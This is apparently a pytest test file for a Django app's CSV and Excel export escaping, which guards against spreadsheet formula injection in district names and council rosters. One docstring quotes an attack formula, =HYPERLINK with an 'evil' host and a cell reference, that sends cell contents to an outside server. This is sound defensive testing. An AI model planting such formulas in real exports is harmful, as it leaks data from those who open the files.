"""The one escaping rule of every CSV and Excel file (cities.exports.escape_cell): the rule itself, the same rule done
by the database (csv_text), the shared writer (table_file) and the council page's roster file written through it."""

import io
import sys
import unicodedata

import openpyxl
import pandas as pd
import pytest
from django.test import Client
from django.urls import reverse

from cities.exports import (
    _FORMULA_SIGNS,
    _LEADING,
    csv_text,
    escape_cell,
    formula_risk,
    table_file,
    unescape_cell,
)
from cities.models import District
from councils import services
from councils.models import Membership, Person
from tests.councils.factories import add_member, make_council
from tests.exports.formulas import CORPUS, INVISIBLE, SIGNS, starts_formula

pytestmark = pytest.mark.django_db


def test_the_rule_knows_every_invisible_character_and_every_formula_sign_of_unicode():
    """The hand-written sets of the rule against this Python's Unicode database: every space, control and format
    character (NUL aside: no database text holds it) may come before a sign, and every character whose compatibility
    form starts with = + - @ is a sign."""
    leading = {code for first, last in _LEADING for code in range(first, last + 1)}
    for code in range(1, sys.maxunicode + 1):
        char = chr(code)
        if unicodedata.category(char) in INVISIBLE:
            assert code in leading, hex(code)
        if unicodedata.normalize("NFKC", char)[:1] in SIGNS and unicodedata.normalize("NFKC", char):
            assert char in _FORMULA_SIGNS, hex(code)


@pytest.mark.parametrize("payload", CORPUS)
def test_every_payload_of_the_corpus_is_escaped_exactly_when_it_could_start_a_formula(payload):
    escaped = escape_cell(payload)
    assert not starts_formula(escaped)
    assert escaped == ("'" + payload if starts_formula(payload) else payload)
    assert unescape_cell(escaped) == payload


def test_texts_that_cannot_start_a_formula_are_left_as_they_are():
    for text in ("safe", "a=b", "'=already quoted", "مرحبا", "12", "", " ", "\u200f"):
        assert escape_cell(text) == text
        assert not formula_risk(text)
    assert escape_cell(3) == 3 and escape_cell(None) is None
    assert unescape_cell("'quoted by its author") == "'quoted by its author"


def test_csv_text_is_the_same_rule_done_by_the_database(city_a):
    names = [*CORPUS, "safe", "a=b", "'=quoted", "", "\u3000\u2066-1", "\U000e0020@x"]
    for i, name in enumerate(names):
        District.objects.create(city=city_a, name=name, name_ar=str(i))
    computed = dict(
        District.objects.filter(city=city_a, name_ar__in=[str(i) for i in range(len(names))]).values_list(
            "name", csv_text("name")
        )
    )
    assert computed == {name: escape_cell(name) or None for name in names}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_shared_writer_escapes_cells_and_headers(fmt):
    rows = [{"name": payload, "=head": payload, "n": -3} for payload in CORPUS]
    data = table_file(rows, fmt, columns=["name", "=head", "n"])
    for cell in _cells(data, fmt):
        assert not starts_formula(cell), repr(cell)


def test_xlsx_drops_control_characters_xml_cannot_hold_instead_of_failing():
    data = table_file([{"name": "\x01=1+1", "other": "a\x0bb"}], "xlsx", columns=["name", "other"])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [c.value for c in sheet[2]] == ["'=1+1", "ab"]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


# --- the council page's roster file (frontend:council_export) ---------------------------------------------------


@pytest.fixture
def poisoned_roster(city_a, secretariat):
    council = make_council(city_a, actor=secretariat)
    term = council.terms.get()
    members = [
        add_member(term, actor=secretariat, full_name=payload.strip() or "x", organisation=payload)
        for payload in CORPUS[:6]
    ]
    return term, members


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_council_page_roster_writes_no_formula(poisoned_roster, secretariat, fmt):
    """The issue's attack: a name from the public opt-in form such as =HYPERLINK("http://evil/?"&A2,"x") came out as
    a live formula in the roster the secretariat opens."""
    client = Client()
    client.force_login(secretariat)
    response = client.get(reverse("frontend:council_export", args=["fes", fmt]))
    assert response.status_code == 200
    cells = _cells(response.content, fmt)
    assert "'" + CORPUS[0] in cells
    for cell in cells:
        assert not starts_formula(cell), repr(cell)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_roster_imports_back_unchanged(poisoned_roster, city_a, secretariat, fmt):
    """The import takes the escaping quote off again: names, organisations and +212 phone numbers come back as
    they were typed."""
    term, members = poisoned_roster
    from councils.exporters import RosterExporter

    data, _content_type, filename = RosterExporter().export(term, fmt)
    want = sorted((m.person.full_name, m.person.organisation, m.person.phone) for m in members)
    people = [m.person_id for m in members]
    Membership.objects.filter(term=term).delete()
    Person.objects.filter(pk__in=people).delete()
    imported = services.roster_import(term=term, data=data, filename=filename, actor=secretariat)
    assert sorted((m.person.full_name, m.person.organisation, m.person.phone) for m in imported) == want
    assert any(name.startswith("=HYPERLINK") for name, _org, _phone in want)
    assert all(phone.startswith("+212") for _name, _org, phone in want)


def _cells(data: bytes, fmt: str) -> list:
    if fmt == "csv":
        frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, header=None, encoding="utf-8-sig")
        return [cell for row in frame.itertuples(index=False) for cell in row]
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def test_a_table_title_holding_any_text_stays_one_escaped_cell(city_a):
    from cities.exports import BaseExporter, render

    class Titled(BaseExporter):
        formats = ("csv",)

        def tables(self, target, options):
            yield "x\r=1+1, and more", [{"a": 1}]

    data = render(Titled(), city_a, {}, "csv")[0]
    cells = _cells(data, "csv")
    assert cells[0] == "x\r=1+1, and more"
    assert not any(starts_formula(c) for c in cells if isinstance(c, str))
